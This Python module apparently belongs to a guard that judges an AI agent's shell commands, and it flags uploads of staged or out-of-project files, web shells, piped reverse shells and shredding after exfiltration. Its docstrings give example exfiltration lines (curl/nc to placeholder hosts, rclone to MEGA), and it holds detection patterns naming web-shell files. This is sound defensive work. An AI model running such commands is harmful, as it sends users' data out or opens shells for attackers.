"""Tactic family ``file upload``: a file the guard cannot vouch for, sent to another machine.

:mod:`.exfiltration` blocks an upload of what it can see is sensitive (a key, the
home directory, ``/etc``, an archive of one of them). Attack scripts rarely name
what they send: they stage it first and upload a name that is known only when the
script runs, or a file in a temporary directory:

- ``curl -F "data=@$archive" https://host/upload``, ``curl -T "$f" ftp://host/``,
  ``curl -d @$(mktemp)``, ``find /tmp/stage -exec curl -F f=@{} …``;
- ``curl --data-binary @/tmp/out.bin``, ``wget --post-file=/var/tmp/x``,
  ``http -f POST host file@/tmp/x``, ``nc host 443 < /tmp/x.tgz``;
- ``scp``/``rsync``/``sftp``, ``aws s3 cp``/``gsutil cp``/``rclone copy``/``azcopy``/
  ``az storage blob upload``/``s3cmd put``, ``smbclient``/``ftp``/``lftp``/``tftp``
  ``put``, ``gh gist create`` of such a file;
- its bytes piped or spelled into the request: ``cat "$f" | curl -d @- …``,
  ``-d "{\\"content\\": \\"$(base64 "$f")\\"}"``.

A temporary file the same line wrote first with text written out in it (``echo '{"a": 1}' >
/tmp/r.json && curl -d @/tmp/r.json …``: :func:`written_here`) is that text, sent as if on the command
line; one written by a program (``python … > /tmp/w.json``), or with a secret's marks, is not vouched for.

Each is :data:`~agentbus.guards.verdict.UPLOAD`, asked by default (a person says
whether the file may leave). A project file sent somewhere (``scp dist/app.tgz
deploy@host:``, ``curl -F file=@coverage.xml https://codecov.io``), JSON written on
the command line, ``git push`` and package publishing are not judged here.

"Outside the project" is lexical: a path that resolves (after ``cd``) to a place where
no project lives: a temporary or system directory, another user's home, another disk
(``/tmp``, ``/var``, ``/private``, ``/Users/Shared``, ``/Volumes``, ``/home/other``;
``cd /tmp && curl -T loot.tgz …`` too), or one that climbs out of an unknown working
directory with ``..``. The user's home and roots such as ``/workspace`` or ``/app``,
where projects live in containers, are not.
"""

from __future__ import annotations

import contextlib
import contextvars
import re
from collections.abc import Iterator

from ...lazy_regex import lazy_compile
from ..findings import finding as _verdict
from ..findings import piece as _piece
from ..findings import positionals as _positionals
from ..findings import static_args as _values
from ..hosts import is_this_machine
from ..interpreters import fed_code
from ..netcat import NETCATS
from ..netcat import operands as netcat_operands
from ..operands import operands
from ..parse import WRITE_OPERATORS, Script
from ..paths import normalize_path
from ..programs import SHELLS, Invocation, shell_mode, walk, written_text
from ..request_bodies import CURL_VALUES, request_options, sent_file
from ..verdict import BACKDOOR, EVIDENCE, SERVICE_ATTACK, UPLOAD, Verdict
from .exfiltration import sends_stdin, verb_words

__all__ = ["judge", "judge_script", "note_written", "remote_runner", "unseen_file", "written_here"]


def unseen_file(text: str, home: str, cwd: str | None) -> str | None:
    """Describe a file sent away that the guard cannot vouch for, or None for a project file.

    ``text`` is the word as written, substitutions shown (``$(ls -t /tmp/*)``): a
    ``$`` left after the parser expanded what it could, or find's ``{}``, is a
    name known only at run time.
    """
    if not text or text in ("-", ".") or _URL.match(text) or _DEVICE.match(text):
        return None
    text = _PWD.sub(".", text)
    path = normalize_path(text, home=home, cwd=cwd)
    if "$" in path or "`" in path or "{}" in path:
        return f"{text}, a file named only at run time"
    if path == ".." or path.startswith("../"):
        return f"{text}, a file outside the project"
    if not path.startswith("/"):
        return None
    home = home.rstrip("/")
    if path == home or path.startswith(home + "/") or not _ELSEWHERE.match(path):
        return None  # the home directory holds projects (its secrets are exfiltration's); so may /workspace
    return f"{path}, a file from outside the project"


_ELSEWHERE = lazy_compile(
    r"^/(?:tmp|var|private|dev/shm|Users/Shared|Volumes|media|root|home|Users|usr|Library|System|etc|boot|run"
    r"|proc|sys|srv|mnt(?=/?$|/(?![a-z](?:/|$))))(?:/|$)"
)
"""Where no project lives: temporary directories, system directories, other users' homes, other disks
(``/mnt/nas``, ``/srv/share``: file servers' shares, what ransomware crews copy out before they encrypt;
not WSL's ``/mnt/c``, where Windows users keep their projects)."""
_URL = lazy_compile(r"^[A-Za-z][A-Za-z0-9+.-]*://")
_DEVICE = lazy_compile(r"^/dev/(?!shm/)")
_PWD = lazy_compile(r"^(?:\$PWD|\$\{PWD\}|\$\(pwd\))(?=/)")


# -- files the line wrote with its own text -------------------------------------------------------

_WRITTEN_HERE: contextvars.ContextVar[set[str] | None] = contextvars.ContextVar(
    "agentbus_uploads_written_here", default=None
)
_TEXT_WRITERS = frozenset({"echo", "printf", "cat"})
_SECRET_MARKS = lazy_compile(
    r"PRIVATE KEY|\bAKIA[0-9A-Z]{16}|\bgh[pousr]_\w{20}|\bglpat-|\bxox[abposr]-|\bsk-\w{20}|\beyJhbGci"
)
"""A key's or a token's marks: such a text is a secret staged to leave, not a request's body."""


@contextlib.contextmanager
def written_here() -> Iterator[None]:
    """Remember, while a line is judged, the files it wrote with text it spells out (:func:`note_written`)."""
    token = _WRITTEN_HERE.set(set())
    try:
        yield
    finally:
        _WRITTEN_HERE.reset(token)


def note_written(stages: list[Invocation], home: str) -> None:
    """After a pipeline: the files ``echo``/``printf``/``cat <<EOF`` wrote (``>``) with text of the line,
    no expansion and no secret in it; a file written again any other way, or named by another program
    (``cp``, ``mv``, ``tar``, ``dd of=``), is forgotten."""
    written = _WRITTEN_HERE.get()
    if written is None:
        return
    for stage in stages:
        for word in _values(stage):  # cp/mv/tar/dd onto it: what it holds now is not the line's text
            named = word.partition("=")[2] if word.startswith(("of=", "--output=")) else word
            if named.startswith(("/", "~", ".")) or "/" in named:
                written.discard(normalize_path(named, home=home, cwd=stage.cwd))
        text = written_text(stage) if stage.name in _TEXT_WRITERS else None
        literal = text is not None and "$" not in text and "`" not in text and not _SECRET_MARKS.search(text)
        for redirect in stage.command.redirects:
            if redirect.op not in WRITE_OPERATORS:
                continue
            target = stage.command.static(redirect.target)
            if target is None:
                continue
            path = normalize_path(target, home=home, cwd=stage.cwd)
            if literal and redirect.op == ">" and not redirect.fd:
                written.add(path)
            else:
                written.discard(path)


def _written_here(text: str, home: str, cwd: str | None) -> bool:
    written = _WRITTEN_HERE.get()
    return written is not None and normalize_path(text, home=home, cwd=cwd) in written


# -- what each program sends ----------------------------------------------------------------------

_HTTPIE = frozenset({"http", "https", "xh", "xhs", "httpie", "curlie"})
_HTTPIE_FILE = lazy_compile(r"^[^:=@]*(?::=@|=@|@)(.+)$")
"""An HTTPie request item that reads a file: ``@body.json``, ``field@file`` (form), ``field=@file``."""
_COPIERS = frozenset({"scp", "rsync", "sftp", "pscp"})
_COPY_VALUES = frozenset({"--exclude", "--include", "-e", "--rsh", "--filter", "-f", "--exclude-from",
                          "--include-from", "--files-from", "--chmod", "--chown", "--log-file", "-T",
                          "--temp-dir", "--partial-dir", "--backup-dir", "--password-file", "--port",
                          "-M", "-i", "-o", "-P", "-F", "-c", "-l", "-S", "-J", "--suffix",
                          "--compare-dest", "--link-dest", "--copy-dest"})  # fmt: skip
"""Options of scp, rsync and sftp that take the next word as their value."""
_REMOTE = lazy_compile(r"^(?:[\w.+-]+@)?[\w.-]+:(?!//)|^[\w+.-]+://")
_BUCKETS = {
    # program: (verbs, how the destination is spelled)
    "aws": ((("s3", "cp"), ("s3", "sync"), ("s3", "mv")), r"^s3://"),
    "gsutil": ((("cp",), ("rsync",), ("mv",)), r"^(?:gs|s3)://"),
    "gcloud": ((("storage", "cp"), ("storage", "rsync")), r"^(?:gs|s3)://"),
    "rclone": ((("copy",), ("sync",), ("move",), ("copyto",), ("moveto",)), r"^[\w.-]+:(?!//)"),
    "s3cmd": ((("put",), ("sync",)), r"^s3://"),
    "azcopy": ((("copy",), ("cp",), ("sync",)), r"^https?://"),
}
"""Cloud storage copiers: the verbs that copy, and what a remote destination looks like."""
_FILE_CLIENTS = frozenset({"sftp", "ftp", "lftp", "tftp", "smbclient", "ncftp", "psftp"})
_PUT = lazy_compile(r"\b(?:put|mput|send|append|reput)\s+(\"[^\"]*\"|'[^']*'|\S+)")
_READERS = frozenset({"cat", "tac", "base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2",
                      "xz", "zstd", "lz4", "tar", "gtar", "bsdtar", "zip", "7z", "7za", "7zz", "dd",
                      "openssl", "gpg", "head", "tail", "pv", "cpio", "uuencode"})  # fmt: skip
"""Programs whose output is the bytes of the files they are given (whole, packed or encoded)."""


_WEB_SHELL = lazy_compile(
    r"(?:^|[-_.])(?:shell|cmd|cmdasp|cmdjsp|backdoor|webshell|revshell|reverse|evil|c99|r57|b374k|wso|p0wny"
    r"|phpbash)\d{0,3}\.(?:php\d?|phtml|phar|aspx?|ashx|jspx?|cfm|war)(?:\.(?:jpe?g|png|gif|txt))?$",
    re.IGNORECASE,
)
"""A file named as a web shell is (``shell.php``, ``php-reverse-shell.php``, ``cmd.aspx``,
``simple-backdoor.php``, ``cmdjsp.jsp``, ``shell.php.jpg``; the name ends with the word:
``cmd_handler.php`` is not one): server code whose only use is a command run for whoever requests it,
wherever it is put (an S3 bucket a site serves, a share that is its web root, ``scp`` into ``/var/www``)."""


def _words(invocation: Invocation) -> list[str]:
    """The arguments as written after expansion, a substitution shown as ``$(...)``."""
    return [invocation.command.render(word) for word in invocation.args]


def _following(words: list[str], index: int) -> str:
    return words[index + 1] if index + 1 < len(words) else ""


def _http_files(invocation: Invocation) -> Iterator[str]:
    """The files an HTTP client sends: ``-F f=@FILE``, ``-d @FILE``, ``-T FILE``, ``--post-file``, ``f@F``."""
    words = _words(invocation)
    name = invocation.name
    if name in _HTTPIE:  # request items; curlie takes curl's options too
        for word in words:
            item = None if word.startswith("-") else _HTTPIE_FILE.match(word)
            if item is not None and not _URL.match(word):
                yield item.group(1)
    for option, value in request_options(name, words):
        file = sent_file(option, value)
        if file is not None:
            yield file


def _stdin_file(invocation: Invocation) -> str | None:
    """``nc host 443 < FILE``: the file a command that sends its input reads it from."""
    if not sends_stdin(invocation) and invocation.name not in _HTTPIE:
        return None
    if invocation.name in _HTTPIE and "--ignore-stdin" in _words(invocation):
        return None
    command = invocation.command
    for redirect in command.redirects:
        if redirect.op == "<" and redirect.fd in ("", "0"):
            return command.render(redirect.target)
    return None


def _copied_files(invocation: Invocation) -> list[str]:
    """What ``scp``/``rsync``/``sftp`` or a cloud storage copier sends to a remote destination."""
    words = _words(invocation)
    name = invocation.name
    if name in _COPIERS:
        positionals = _positionals(words, _COPY_VALUES)
        if len(positionals) >= 2 and _REMOTE.match(positionals[-1]):
            return [p for p in positionals[:-1] if not _REMOTE.match(p)]
        return []
    bucket = _BUCKETS.get(name)
    if bucket is not None:
        verbs, remote = bucket
        for verb in verbs:
            plain = verb_words(words, verb[0])
            if tuple(plain[: len(verb)]) != verb:
                continue
            rest = plain[len(verb) :]  # sources, then the destination (option values may follow)
            ends = [i for i, word in enumerate(rest) if re.match(remote, word)]
            if ends and ends[-1] > 0:
                return [p for p in rest[: ends[-1]] if not re.match(r"^[\w+.-]+://|^[\w.-]+:", p)]
        return []
    if name == "az" and words[:2] in (["storage", "blob"], ["storage", "file"]):
        wanted = ("--file", "-f") if words[2:3] == ["upload"] else ("--source", "-s")
        return [_following(words, i) for i, w in enumerate(words) if w in wanted]
    if name == "aws" and words[:2] == ["s3api", "put-object"]:
        return [_following(words, i) for i, w in enumerate(words) if w == "--body"]
    if name == "gh" and words[:2] in (["gist", "create"], ["release", "upload"]):
        plain = [w for w in words[2:] if not w.startswith("-")]
        return plain[1:] if words[0] == "release" else plain
    if name == "ncftpput":
        plain = [w for w in words if not w.startswith("-")]
        return plain[2:]
    return []


def _raw_upload(invocation: Invocation) -> str | None:
    """``nc HOST PORT < FILE`` to another machine: a file sent down a bare socket, no service between
    that the project names (``nc localhost 8080 < request.http`` tests a local server: not judged);
    ``rclone sync SRC REMOTE:DST``: the destination made a mirror of a local directory, files it holds
    beyond it deleted. Whatever the file, a person says whether it may go."""
    name = invocation.name
    if name in NETCATS and sends_stdin(invocation):
        sent = _stdin_file(invocation)
        hosts = netcat_operands(_words(invocation))
        if sent is not None and hosts and not is_this_machine(hosts[0]):
            return f"{name} sends {sent} down a bare socket to {hosts[0]}"
        return None
    if name == "socat":
        peer = socat_peer(invocation)
        sent = next(iter(_socat_files(invocation)), None) or _stdin_file(invocation)
        if peer is not None and sent is not None:
            return f"socat sends {sent} down a bare socket to {peer}"
        return None
    if name in _SSH_CLIENTS:
        return _remote_script(invocation)
    if name == "rclone":
        plain = [w for w in _words(invocation) if not w.startswith("-")]
        if (
            plain[:1] == ["sync"]
            and len(plain) > 2
            and _REMOTE.match(plain[-1])
            and not _REMOTE.match(plain[1])
        ):
            return f"rclone sync makes {plain[-1]} a mirror of {plain[1]}, deleting what else it holds"
    return None


_SOCAT_CONNECT = lazy_compile(
    r"^(?:tcp|udp|ssl|openssl|sctp|dccp)[46]?(?:-connect|-sendto|-datagram)?:(\[[^\]]*\]|[^:,]+)", re.I
)
"""socat's connecting address and its host: ``TCP:10.0.0.5:443``, ``OPENSSL:h:443,verify=0``."""
_SOCAT_LISTEN = lazy_compile(r"^[a-z0-9]+-(?:listen|l|recv(?:from)?):|^(?:exec|system):", re.I)


def socat_peer(invocation: Invocation) -> str | None:
    """The other machine socat connects to and sends its first address's bytes to (none when it listens:
    a relay or a server is :mod:`..danger`'s, nor to this machine, nor with ``-U``: the bytes flow back)."""
    values = _values(invocation)
    if invocation.name != "socat" or "-U" in values or any(_SOCAT_LISTEN.match(v) for v in values):
        return None
    hosts = [m.group(1).strip("[]") for m in map(_SOCAT_CONNECT.match, values) if m]
    return next((host for host in hosts if not is_this_machine(host)), None)


def _socat_files(invocation: Invocation) -> Iterator[str]:
    """The files a socat address reads (``FILE:backup.tgz``, ``OPEN:x``), devices (a serial line) left out."""
    for value in _values(invocation):
        address = _SOCAT_READ.match(value)
        if address and not (
            address.group(1).startswith("/dev/") and not address.group(1).startswith("/dev/shm/")
        ):
            yield address.group(1)


_SOCAT_READ = lazy_compile(r"^(?:file|open|gopen):([^,]+)", re.I)
_SSH_CLIENTS = frozenset({"ssh", "dbclient", "autossh"})
_SSH_VALUES = frozenset({"-B", "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O",
                         "-o", "-p", "-Q", "-R", "-S", "-W", "-w", "-M"})  # fmt: skip
_REMOTE_RUNNER = lazy_compile(
    r"^(?:(?:sudo|doas|env|nice|nohup|exec)(?:\s+-\S+)*\s+)*(?:/\S*/)?"
    r"(?:(?:ba|da|z|k|mk|a)?sh(?:\s+-[a-z]+)*(?:\s+--(?:\s.*)?)?"
    r"|(?:python[\d.]*|perl[\d.]*|ruby[\d.]*|node|php[\d.]*)(?:\s+-[a-zA-Z]*)*(?:\s+-(?:\s.*)?)?)\s*$"
)
"""A remote command that runs what arrives on its input as code: ``bash -s``, ``sh``, ``sudo bash -s --
ARGS``, ``python3 -``; no command at all is the login shell reading its input."""


def remote_runner(invocation: Invocation) -> tuple[str, str] | None:
    """The host and the remote command of an ``ssh`` that runs its input as code (``ssh HOST 'bash -s'``,
    ``ssh HOST`` with no command and no terminal), or None."""
    if invocation.name not in _SSH_CLIENTS:
        return None
    words = _words(invocation)
    positionals = _positionals(words, _SSH_VALUES)
    if not positionals:
        return None
    options = words[: words.index(positionals[0])]  # ssh's own, before the host
    if any(w.startswith(("-W", "-N", "-O", "-s")) or w == "-V" for w in options):
        return None  # a forwarded stream, no command, a control command, a subsystem: no shell reads it
    remote = " ".join(positionals[1:])
    if remote and not _REMOTE_RUNNER.match(remote):
        return None
    return positionals[0], remote or "its login shell"


def _remote_script(invocation: Invocation) -> str | None:
    """``ssh HOST 'bash -s' < deploy.sh``: a local file run as code on another machine, where no guard
    sees what it does (the file may be the project's own; what it does there is a person's call)."""
    command = invocation.command
    fed = next(
        (command.render(r.target) for r in command.redirects if r.op == "<" and r.fd in ("", "0")), None
    )
    runner = remote_runner(invocation)
    if fed is None or runner is None or fed == "/dev/null":
        return None
    return f"runs {fed} as code on {runner[0]} ({runner[1]} reads it from ssh's input)"


def _put_files(invocation: Invocation, before: list[Invocation]) -> list[str]:
    """``smbclient -c "put F"``, ``lftp -e "put F"``, ``tftp -c put F``, ``ftp <<EOF``: batch uploads."""
    if invocation.name not in _FILE_CLIENTS:
        return []
    words = _words(invocation)
    texts = [_following(words, i) for i, w in enumerate(words) if w in ("-c", "-e", "--command")]
    if invocation.name == "tftp" and "-c" in words:
        texts.append(" ".join(words[words.index("-c") + 1 :]))
    texts += list(fed_code(invocation))
    texts += [" ".join(_words(stage)) for stage in before if stage.name in ("echo", "printf")]
    found = []
    for text in texts:
        for match in _PUT.finditer(text.replace("\\n", "\n")):
            found.append(match.group(1).strip("'\""))
    return found


def _sent(invocation: Invocation, before: list[Invocation]) -> Iterator[str]:
    """Every file ``invocation`` sends to another machine, as written."""
    if invocation.name in _HTTP_CLIENTS:
        yield from _http_files(invocation)
    yield from _copied_files(invocation)
    yield from _put_files(invocation, before)
    stdin = _stdin_file(invocation)
    if stdin is not None:
        yield stdin
    if invocation.name == "socat":
        for operand in operands(invocation):
            if operand.role == "file":
                yield operand.value


_HTTP_CLIENTS = _HTTPIE | {"curl", "wget", "wget2", "lwp-request", "POST", "PUT"}


def _read_unseen(invocation: Invocation, home: str) -> str | None:
    """What unseen file a reader (``cat "$f"``, ``base64 /tmp/x``, ``dd if=$IMG``) outputs, if any."""
    if invocation.name not in _READERS:
        return None
    for operand in operands(invocation):
        if operand.role in ("pattern", "output", "url"):
            continue
        value = operand.value.removeprefix("if=") if invocation.name == "dd" else operand.value
        if invocation.name == "dd" and "=" in value:
            continue  # bs=1M, count=1
        what = unseen_file(_shown(invocation, value), home, invocation.cwd)
        if what:
            return what
    command = invocation.command
    for word in invocation.args:  # cat "$(mktemp -d)/a": computed words are no operands the guard can resolve
        if command.static(word) is None and not word.startswith("-"):
            return unseen_file(command.render(word), home, invocation.cwd)
    return None


_PLACEHOLDER = "\ue020"


def _shown(invocation: Invocation, value: str) -> str:
    return invocation.command.render(value) if _PLACEHOLDER in value else value


def _encoded_in_request(invocation: Invocation, home: str) -> str | None:
    """``curl -d "{\\"content\\": \\"$(base64 "$f")\\"}"``: an unseen file's bytes in the request."""
    for word in invocation.args:
        for sub in invocation.command.substitutions_in(word):
            for stages in walk(sub.script, cwd=invocation.cwd):
                for stage in stages:
                    what = _read_unseen(stage, home)
                    if what:
                        return what
    return None


def _to_another_account(invocation: Invocation) -> bool:
    """``aws s3 cp s3://ours/x s3://theirs --acl bucket-owner-full-control``: data handed to another account.

    The canned ACL (or ``--grants`` to an account or address) exists for writing into a
    bucket someone else owns; within one's own account it changes nothing.
    """
    words = _words(invocation)
    if invocation.name != "aws" or words[:2] not in (["s3", "cp"], ["s3", "sync"], ["s3", "mv"]):
        return False
    for index, word in enumerate(words):
        option, _, attached = word.partition("=")
        value = attached or _following(words, index)
        if option == "--acl" and value == "bucket-owner-full-control":
            return True
        if option == "--grants" and re.search(r"=(?:id|emailaddress)=", value):
            return True
    return False


# -- the judges ------------------------------------------------------------------------------------


def judge(invocation: Invocation, home: str) -> Verdict | None:
    """An upload, by ``invocation`` alone, of a file named at run time or from outside the project."""
    if not invocation.name or _loopback_only(invocation):
        return None
    for text in _sent(invocation, []):
        if _WEB_SHELL.search(text.strip("\"'").rpartition("/")[2]):
            why = f"{invocation.name} puts {text[:80]}, a web shell, on another machine (a server to run it)"
            return _verdict(SERVICE_ATTACK, invocation, why)
        what = unseen_file(text, home, invocation.cwd)
        if what and not _written_here(text, home, invocation.cwd):
            return _verdict(UPLOAD, invocation, f"{invocation.name} sends {what}, to another machine")
    if _to_another_account(invocation):
        return _verdict(UPLOAD, invocation, "copies objects into a bucket another account owns")
    if _new_remote_login(invocation):
        return _verdict(UPLOAD, invocation, "adds a cloud remote, with its login, where later copies can go")
    raw = _raw_upload(invocation)
    if raw is not None:
        return _verdict(UPLOAD, invocation, raw)
    if invocation.name in _HTTP_CLIENTS:
        what = _encoded_in_request(invocation, home)
        if what:
            return _verdict(
                UPLOAD, invocation, f"{invocation.name} sends the bytes of {what}, to another machine"
            )
    return None


def _new_remote_login(invocation: Invocation) -> bool:
    """``rclone config create loot mega user x@mail pass …``: a storage remote written into rclone's
    configuration with an account's login on the command line, the first step of the copy-out to
    MEGA that ransomware crews run before they encrypt. Asked: a person knows whether the account is
    theirs. ``rclone config`` (interactive) and ``config show``/``file``/``dump`` are not judged."""
    if invocation.name != "rclone":
        return False
    words = [w for w in _words(invocation) if not w.startswith("-")]
    if words[:2] not in (["config", "create"], ["config", "update"]):
        return False
    return bool({"user", "pass", "password", "token", "key", "secret_access_key", "account"} & set(words[3:]))


_LOOPBACK_URL = lazy_compile(
    r"^(?:https?://)?(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|\[::1\])(?::\d{1,5})?(?:[/?#]|$)",
    re.IGNORECASE,
)
_HOST_LIKE = lazy_compile(r"://|^[\w-]+(?:\.[\w-]+)+(?::\d+)?(?:[/?#]|$)|^[\w.-]+:\d+(?:[/?#]|$)|^[\w-]+$")
"""A word curl could take for a URL: a scheme, a dotted host, a host and port, a bare name."""
_REROUTES = frozenset({
    "--proxy", "--preproxy", "--resolve", "--connect-to", "--config", "--socks4", "--socks4a", "--socks5",
    "--socks5-hostname", "--proxy1.0", "--url", "--next",
})  # fmt: skip
"""curl options that send the request elsewhere than its URL says, or read more URLs."""
_LONG_VALUES = frozenset({
    "--header", "--request", "--cookie", "--cookie-jar", "--output", "--user", "--user-agent", "--referer",
    "--data", "--data-binary", "--data-raw", "--data-urlencode", "--json", "--form", "--form-string",
    "--upload-file", "--write-out", "--max-time", "--retry", "--connect-timeout", "--cacert", "--cert",
    "--key", "--oauth2-bearer",
})  # fmt: skip
"""curl's long options whose value is the next word (a header, a method, a body, a file)."""


def _loopback_only(invocation: Invocation) -> bool:
    """``curl --data-binary @/tmp/bundle.json http://localhost/api/import``: every word static, a
    loopback URL given, no other word a URL or host, nothing that reroutes the request (a proxy,
    ``--resolve``, ``--connect-to``, ``-K`` config, ``http_proxy=``): the file stays on this machine.

    A server on this machine may pass on what it gets; that is the server's code, judged where it runs.
    """
    if invocation.name not in ("curl", "curlie"):
        return False
    command = invocation.command
    values = [command.static(word) for word in invocation.args]
    if any(value is None for value in values) or any("proxy" in e.lower() for e in invocation.env):
        return False  # http_proxy=http://peer curl ...: sent through another machine
    loopback = False
    value_next = False
    for value in values:
        assert value is not None
        if value_next:
            value_next = False
            continue
        option = value.partition("=")[0]
        short = value[:1] == "-" and value[1:2] != "-"
        if option in _REROUTES or (short and {"x", "K"} & set(value[1:])):
            return False
        if short:
            value_next = any(char in CURL_VALUES for char in value[1:]) and value[-1] in CURL_VALUES
        elif value.startswith("--"):
            value_next = "=" not in value and value in _LONG_VALUES
        elif _LOOPBACK_URL.match(value):
            loopback = True
        elif not value.startswith("@") and _HOST_LIKE.search(value):
            return False
    return loopback


_STREAM_PACKERS = frozenset({"tar", "gtar", "bsdtar", "cpio", "zip", "pax"})


def _socket_peer(invocation: Invocation) -> str | None:
    """The other machine (not a loopback one) a bare socket client sends its input to (``nc HOST 9999``)."""
    if invocation.name == "socat":
        return socat_peer(invocation)
    if invocation.name not in NETCATS or not sends_stdin(invocation):
        return None
    plain = netcat_operands(_values(invocation))
    if len(plain) < 2 or is_this_machine(plain[0]):
        return None
    return plain[0]


def _streamed(invocation: Invocation) -> str | None:
    """What a stage writes to the pipe that a socket should not carry: an archive packed to standard output
    (``tar cz DIR``, ``tar -cf - DIR``, ``cpio -o``), or a shell's session (``bash -i``, ``script -qc
    /bin/bash /dev/null``)."""
    name = invocation.name
    values = _values(invocation)
    if name in ("tar", "gtar", "bsdtar") and _tar_to_stdout(values):
        return f"an archive ({' '.join(invocation.text.split())[:60]})"
    if name in ("cpio", "pax") and ("-o" in values or "-w" in values):
        return f"an archive ({name})"
    if name == "script" and any(v.startswith("-") and "c" in v.lstrip("-") for v in values):
        return "a shell session (script -c)"
    if name in SHELLS and shell_mode(invocation).interactive:
        return f"an interactive shell ({name} -i)"
    read = _read_files(name, values)
    return f"the file {read[0]}" if read else None


_STREAM_READERS = frozenset({"cat", "tac", "pv", "dd"})
_PV_VALUES = frozenset({"-L", "--rate-limit", "-s", "--size", "-N", "--name", "-i", "--interval", "-B",
                        "--buffer-size", "-w", "--width", "-H", "--height", "-F", "--format", "-D",
                        "--delay-start", "-P", "--pidfile", "-R", "--remote", "-d", "--watchfd"})  # fmt: skip
"""pv's options whose next word is a value, not a file read."""


def _read_files(name: str, values: list[str]) -> list[str]:
    """The files a reader pours onto the pipe (``pv backup.tar``, ``cat db.sql``, ``dd if=disk.img``): piped
    to netcat, the same file sent down a bare socket as ``nc HOST PORT < FILE`` (asked); devices (``cat
    /dev/zero``: a bandwidth test) and standard input are not files sent."""
    if name not in _STREAM_READERS:
        return []
    if name == "dd":
        files = [value[3:] for value in values if value.startswith("if=")]
    else:
        files = _positionals(values, _PV_VALUES) if name == "pv" else [v for v in values if v[:1] != "-"]
    devices = [file for file in files if file.startswith("/dev/") and not file.startswith("/dev/shm/")]
    return [file for file in files if file not in ("", "-") and file not in devices]


def _tar_to_stdout(values: list[str]) -> bool:
    """``tar cz DIR``, ``tar -cf - DIR``, ``tar --create --file=- DIR``: an archive created onto the pipe."""
    create = output = None
    for index, value in enumerate(values):
        following = values[index + 1] if index + 1 < len(values) else ""
        if value == "--create":
            create = True
        elif value.startswith("--file="):
            output = value.partition("=")[2]
        elif value == "--file":
            output = following
        elif (index == 0 or value.startswith("-")) and not value.startswith("--"):
            letters = value.lstrip("-")
            create = create or "c" in letters
            if letters.endswith("f"):
                output = following
    return bool(create) and output in (None, "-")


def _piped_to_socket(stages: list[Invocation]) -> Verdict | None:
    """``tar cz ~/project | nc 203.0.113.4 9999`` (asked: what leaves is the user's to say) and ``script
    -qc /bin/bash /dev/null | nc HOST PORT`` (a shell's session sent to another machine: half a reverse
    shell)."""
    for index, stage in enumerate(stages[1:], 1):
        peer = _socket_peer(stage)
        if peer is None:
            continue
        for before in stages[:index]:
            what = _streamed(before)
            if what is None:
                continue
            text = " | ".join(" ".join(s.text.split()) for s in stages)
            if what.startswith(("a shell", "an interactive")):
                return Verdict(BACKDOOR, _piece(text), f"pipes {what} to {peer} down a bare socket")
            return Verdict(UPLOAD, _piece(text), f"pipes {what} to {peer} down a bare socket")
    return None


_WIPERS = frozenset({"shred", "gshred", "srm", "wipe"})
"""What overwrites a file before it removes it (``rm -P`` on macOS too): its bytes past any recovery."""


def _wiped(invocation: Invocation) -> list[str]:
    """The files ``shred -u``, ``srm``, ``wipe`` or macOS's ``rm -P`` overwrite, as written."""
    values = _values(invocation)
    if invocation.name == "rm" and any(v[:1] == "-" and v[1:2] != "-" and "P" in v for v in values):
        return [v for v in values if v[:1] != "-"]
    if invocation.name not in _WIPERS:
        return []
    return _positionals(values, frozenset({"-n", "-s", "--iterations", "--size", "--random-source"}))


def _wiped_after_upload(script: Script) -> Verdict | None:
    """``curl -T loot.tgz ftp://h/ && shred -u loot.tgz``: the file just sent overwritten and removed, so
    that no copy on the disk tells what left (a build's upload cleans up with ``rm``, not a shredder)."""
    sent: dict[str, str] = {}
    for stages in walk(script):
        for index, stage in enumerate(stages):
            for file in _wiped(stage):
                name = file.rstrip("/").rpartition("/")[2]
                if name and name in sent:
                    why = (
                        f"overwrites {file} right after {sent[name]} sent it away: the staged copy destroyed"
                    )
                    return _verdict(EVIDENCE, stage, why)
            files = list(_sent(stage, stages[:index])) if stage.name else []
            if _raw_upload(stage) is not None or _socket_peer(stage) is not None:
                files += [f for f in (_stdin_file(stage), *_socat_files(stage)) if f]
            peer = index + 1 < len(stages) and _socket_peer(stages[index + 1]) is not None
            if peer:
                files += _read_files(stage.name, _values(stage))
            for file in files:
                sent.setdefault(file.strip("\"'").rstrip("/").rpartition("/")[2], stage.name)
    return None


def judge_script(script: Script, home: str) -> Verdict | None:
    """In one pipeline, an unseen file read and piped to a program that sends its input away."""
    wiped = _wiped_after_upload(script)
    if wiped is not None:
        return wiped
    for stages in walk(script):
        sent = _piped_to_socket(stages)
        if sent is not None:
            return sent
        source = None
        for index, stage in enumerate(stages):
            if index and source is not None and sends_stdin(stage):
                text = " | ".join(" ".join(s.text.split()) for s in stages)
                return Verdict(UPLOAD, _piece(text), f"pipes {source} to {stage.name}, to another machine")
            if index and stage.name in _FILE_CLIENTS:
                for text in _put_files(stage, stages[index - 1 : index]):
                    what = unseen_file(text, home, stage.cwd)
                    if what:
                        line = " | ".join(" ".join(s.text.split()) for s in stages)
                        return Verdict(UPLOAD, _piece(line), f"{stage.name} sends {what}, to another machine")
            source = source or _read_unseen(stage, home)
    return None
